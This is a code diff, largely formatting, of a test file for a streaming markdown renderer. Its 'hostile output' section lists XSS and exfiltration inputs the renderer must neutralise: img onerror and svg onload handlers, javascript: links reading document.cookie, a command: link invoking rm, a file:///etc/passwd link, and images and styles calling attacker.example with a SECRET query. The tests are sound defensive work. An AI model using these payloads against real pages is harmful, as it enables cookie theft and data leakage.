@@ -142,7 +142,11 @@ test('plain words appended to an open paragraph render exactly like a full redra
       sent += part;
       renderer.append(part);
       renderer.render();
-      assert.equal(container.innerHTML.replace(/<\/?div[^>]*>/g, ''), fullHtml(document, kit, sent).replace(/<\/?div[^>]*>/g, ''), JSON.stringify(sent));
+      assert.equal(
+        container.innerHTML.replace(/<\/?div[^>]*>/g, ''),
+        fullHtml(document, kit, sent).replace(/<\/?div[^>]*>/g, ''),
+        JSON.stringify(sent),
+      );
     }
   }
 });
@@ -175,7 +179,40 @@ test('a reference definition after its use resolves in the final render', () => 
 
 // ---- hostile output ----
 
-const ALLOWED = new Set(['P', 'BR', 'HR', 'H1', 'H2', 'H3', 'H4', 'H5', 'H6', 'STRONG', 'EM', 'S', 'DEL', 'CODE', 'PRE', 'BLOCKQUOTE', 'UL', 'OL', 'LI', 'A', 'TABLE', 'THEAD', 'TBODY', 'TR', 'TH', 'TD', 'SPAN', 'DIV', 'BUTTON', 'IMG', 'SUP', 'SUB']);
+const ALLOWED = new Set([
+  'P',
+  'BR',
+  'HR',
+  'H1',
+  'H2',
+  'H3',
+  'H4',
+  'H5',
+  'H6',
+  'STRONG',
+  'EM',
+  'S',
+  'DEL',
+  'CODE',
+  'PRE',
+  'BLOCKQUOTE',
+  'UL',
+  'OL',
+  'LI',
+  'A',
+  'TABLE',
+  'THEAD',
+  'TBODY',
+  'TR',
+  'TH',
+  'TD',
+  'SPAN',
+  'DIV',
+  'BUTTON',
+  'IMG',
+  'SUP',
+  'SUB',
+]);
 
 /** Nothing in the rendered DOM can run code, navigate, or fetch anything. */
 function assertInert(container: HTMLElement, where: string): void {
@@ -184,22 +221,43 @@ function assertInert(container: HTMLElement, where: string): void {
     for (const attr of Array.from(el.attributes)) {
       const n = attr.name.toLowerCase();
       assert.ok(!n.startsWith('on'), `${where}: event handler ${n}`);
-      assert.ok(!['href', 'srcset', 'style', 'xlink:href', 'action', 'formaction', 'poster', 'background'].includes(n), `${where}: attribute ${n}`);
-      if (n === 'src') assert.match(attr.value, /^data:image\/(png|jpeg|gif|webp);base64,/i, `${where}: img src ${attr.value}`);
+      assert.ok(
+        !['href', 'srcset', 'style', 'xlink:href', 'action', 'formaction', 'poster', 'background'].includes(n),
+        `${where}: attribute ${n}`,
+      );
+      if (n === 'src')
+        assert.match(attr.value, /^data:image\/(png|jpeg|gif|webp);base64,/i, `${where}: img src ${attr.value}`);
     }
   }
 }
 
 const HOSTILE: { name: string; text: string; splits?: string[] }[] = [
-  { name: 'img onerror split as <im + g', text: 'Look: <img src=x onerror=alert(1)> done', splits: ['Look: <im', 'g src=x onerror=alert(1)> done'] },
-  { name: 'javascript: link split', text: 'Click [a](javascript:alert(document.cookie)) now', splits: ['Click [a](javas', 'cript:alert(document.cookie)) now'] },
+  {
+    name: 'img onerror split as <im + g',
+    text: 'Look: <img src=x onerror=alert(1)> done',
+    splits: ['Look: <im', 'g src=x onerror=alert(1)> done'],
+  },
+  {
+    name: 'javascript: link split',
+    text: 'Click [a](javascript:alert(document.cookie)) now',
+    splits: ['Click [a](javas', 'cript:alert(document.cookie)) now'],
+  },
   { name: 'command: link', text: '[Open terminal](command:workbench.action.terminal.new?%5B%22rm%22%5D)' },
-  { name: 'vscode: and file: links', text: '[x](vscode://ms-vscode.foo/bar) and [y](file:///etc/passwd) and <javascript:alert(1)>' },
+  {
+    name: 'vscode: and file: links',
+    text: '[x](vscode://ms-vscode.foo/bar) and [y](file:///etc/passwd) and <javascript:alert(1)>',
+  },
   { name: 'remote inline image', text: '![leak](https://attacker.example/leak?q=SECRET)' },
   { name: 'reference-style image', text: '![leak][r]\n\ntext\n\n[r]: https://attacker.example/ref.png?q=SECRET\n' },
-  { name: 'script and style tags', text: '<script>alert(1)</script>\n\n<style>body{background:url(https://attacker.example/css)}</style>' },
+  {
+    name: 'script and style tags',
+    text: '<script>alert(1)</script>\n\n<style>body{background:url(https://attacker.example/css)}</style>',
+  },
   { name: 'svg onload and iframe', text: '<svg onload=alert(1)><iframe src="https://attacker.example/"></iframe>' },
-  { name: 'html link with handler', text: '<a href="https://x" onclick="alert(1)">x</a> <video poster="https://attacker.example/p.png">' },
+  {
+    name: 'html link with handler',
+    text: '<a href="https://x" onclick="alert(1)">x</a> <video poster="https://attacker.example/p.png">',
+  },
   { name: 'srcset image', text: '<img srcset="https://attacker.example/a.png 1x">' },
   { name: 'svg data image', text: '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)' },
   { name: 'fence info injection', text: '```js" onmouseover="alert(1)\ncode\n```\n' },
